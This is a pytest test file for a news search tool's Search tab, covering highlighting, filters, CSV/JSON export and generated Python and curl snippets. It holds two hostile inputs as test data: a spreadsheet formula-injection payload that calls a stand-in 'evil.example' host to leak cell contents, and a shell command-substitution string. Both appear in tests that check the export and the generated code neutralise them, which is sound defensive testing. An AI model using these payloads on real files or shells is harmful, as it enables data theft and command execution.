"""The Search tab without a browser: what is sought, the code that does the same, and the files."""

from __future__ import annotations

import csv
import io
import json
import re
import shlex
from collections.abc import Iterator
from datetime import date
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import pytest
from starlette.testclient import TestClient

from assistant.assistant import Assistant
from assistant.exporting import COLUMNS, hits_as_csv, hits_as_json
from assistant.server import create_app
from assistant.settings import ServerSettings, Settings
from assistant.types import Article, Filters, Hit
from assistant.ui.search import Search
from assistant.ui.sought import Sought, found_words
from tests.fakes import WordEmbeddings, make_article, make_passage

STORY = "The bridge over the river will be open in the spring, the minister said. " * 12
ARTICLES = [
    Article(
        "A zebra ran over the plain.", "Zebra", "Ann", date(2024, 1, 5), "Gazette", "https://x.example/1"
    ),
    Article("Zebras sleep while they stand.", "Sleep", "", date(2024, 3, 1), "Herald", "https://x.example/2"),
    Article(STORY, "Bridge", "Bo", date(2024, 3, 1), "Herald", "https://x.example/bridge"),
    Article(STORY + "More at six.", "Bridge again", "", None, "Times", "https://x.example/again"),
]


@pytest.fixture
def assistant(tmp_path: Path) -> Iterator[Assistant]:
    settings = Settings(data_dir=tmp_path / "data")
    with Assistant.open(settings=settings, embedder=WordEmbeddings()) as opened:
        opened.add(ARTICLES)
        yield opened


@pytest.fixture
def search(assistant: Assistant) -> Search:
    return Search(assistant)


def event(**fields: object) -> Any:
    return SimpleNamespace(_data={"fields": fields})


def request(host: str = "127.0.0.1:7860") -> Any:
    return SimpleNamespace(
        headers={"host": host}, request=SimpleNamespace(url=SimpleNamespace(scheme="http"))
    )


def unmarked(markup: str) -> str:
    return re.sub(r"<[^>]*>", "", markup)


def test_hits_have_marked_words_all_scores_and_a_way_into_the_article(search: Search):
    sought, found = search.search(event(query="zebra"), request())
    assert sought == Sought("zebra")
    assert re.findall(r"<mark>(.*?)</mark>", found) == ["zebra", "Zebras"]
    names = re.findall(r"<dt>(.*?)</dt>", found)
    assert names[:4] == ["Score", "Meaning", "Words", "Answers"]
    assert f'data-article="{ARTICLES[0].id}" data-version="{ARTICLES[0].version}"' in found
    assert 'data-query="zebra"' in found


def test_near_copies_are_named_and_can_be_opened(search: Search):
    _, found = search.search(event(query="the bridge over the river"), request())
    assert re.search(r'Also in <button[^>]*data-action="read"[^>]*>(Times|Herald)</button>', found)


def test_filters_narrow_and_reversed_dates_are_put_right(search: Search):
    sought, found = search.search(event(query="zebra", source="herald"), request())
    assert "Zebras sleep" in unmarked(found)
    assert "A zebra ran" not in unmarked(found)
    sought, _ = search.search(event(query="zebra", **{"from": "2024-02-01", "to": "2024-01-01"}), request())
    assert sought.filters == Filters(date(2024, 1, 1), date(2024, 2, 1))


@pytest.mark.parametrize(
    ("fields", "said"),
    [
        ({}, "Search the passages themselves"),
        ({"query": "   "}, "Search the passages themselves"),
        ({"query": "the"}, "Nothing was found"),
        ({"query": "zebra", "from": "2030-01-01"}, "Nothing was found"),
        ({"query": "zebra", "top_k": "1e9", "order": "?", "source": None}, "passages in"),
    ],
)
def test_whatever_is_sent_is_answered(search: Search, fields: dict[str, object], said: str):
    assert said in search.search(event(**fields), request())[1]


def test_words_are_found_in_whatever_form():
    text = "Talks; the TALK of talking. Atalks."
    assert [text[slice(*span)] for span in found_words(text, "What talks?")] == ["Talks", "TALK", "talking"]
    assert found_words("", "zebra") == []


class TestFiles:
    def test_a_table_has_a_line_for_each_hit(self, search: Search, assistant: Assistant):
        hits = assistant.search("zebra", 10)
        rows = list(csv.DictReader(io.StringIO(hits_as_csv(hits))))
        assert [row["title"] for row in rows] == [hit.article.title for hit in hits]
        assert tuple(rows[0]) == COLUMNS
        assert float(rows[0]["score"]) == round(hits[0].score, 4)
        assert 'data-file="passages.csv"' in search.csv(Sought("zebra"))

    @pytest.mark.parametrize("sign", ["=", "+", "-", "@", "\t", "\r", "  =", "＝"])
    def test_no_cell_is_a_formula(self, sign: str):
        evil = f'{sign}HYPERLINK("http://evil.example/?"&A1;"x")'
        article = make_article(evil, title=evil, source=evil, author=evil, url="")
        hit = Hit(make_passage(evil, article_id=article.id), article, 0.5, similarity=-0.25)
        (row,) = csv.DictReader(io.StringIO(hits_as_csv([hit]), newline=""))
        assert [row[name] for name in ("title", "source", "author", "text")] == [f"'{evil}"] * 4
        assert row["similarity"] == "-0.25"  # a number of ours stays one

    def test_json_is_what_python_says(self, search: Search, assistant: Assistant):
        hits = assistant.search("zebra", 10)
        said = json.loads(hits_as_json(hits, "zebra", Filters(date(2024, 1, 1)), rerank=True))
        assert said["hits"] == [hit.to_dict() for hit in hits]
        assert (said["query"], said["published_from"], said["rerank"]) == ("zebra", "2024-01-01", True)
        assert 'data-kind="application/json"' in search.json(Sought("zebra"))


class TestCode:
    EVIL = 'zebra\'s "$(touch x)"; `id` \\ é'

    def sought(self) -> Sought:
        return Sought(self.EVIL, Filters(date(2024, 1, 1), None, ("Gazette", "Herald")), 5, is_read=True)

    def test_python_finds_the_same(self, assistant: Assistant, monkeypatch: pytest.MonkeyPatch):
        code = self.sought().python().replace("Assistant.open()", "opened()")
        found: dict[str, Any] = {"opened": lambda: _Shown(assistant)}
        exec(code, found)
        expected = assistant.search(self.EVIL, 5, self.sought().filters, rerank=True)
        assert found["hits"] == expected
        assert len(Sought("zebra").python().splitlines()) == 3

    def test_curl_finds_the_same(self, assistant: Assistant):
        words = shlex.split(self.sought().curl("http://testserver/").replace("\\\n", ""))
        assert words[:2] == ["curl", "http://testserver/api/v1/search"]
        body = json.loads(words[words.index("-d") + 1])
        settings = assistant.settings.model_copy(update={"server": ServerSettings(host="testserver")})
        assert body["query"] == self.EVIL
        assert settings.server.host == "testserver"
        app = create_app(assistant, assistant.settings)
        with TestClient(app, base_url="http://127.0.0.1", client=("127.0.0.1", 5)) as client:
            answer = client.post("/api/v1/search", json=body)
        assert answer.status_code == 200, answer.text
        expected = assistant.search(self.EVIL, 5, self.sought().filters, rerank=True)
        assert [hit["passage_id"] for hit in answer.json()["hits"]] == [hit.passage.id for hit in expected]

    def test_a_server_that_wants_a_token_says_so(self, search: Search):
        assert "TOKEN" in Sought("zebra").curl("http://h/", with_token=True)
        assert "TOKEN" not in search.search(event(query="zebra"), request())[1]


class _Shown:
    """An open assistant that a `with` does not close."""

    def __init__(self, assistant: Assistant) -> None:
        self._assistant = assistant

    def __enter__(self) -> Assistant:
        return self._assistant

    def __exit__(self, *_: object) -> None:
        pass
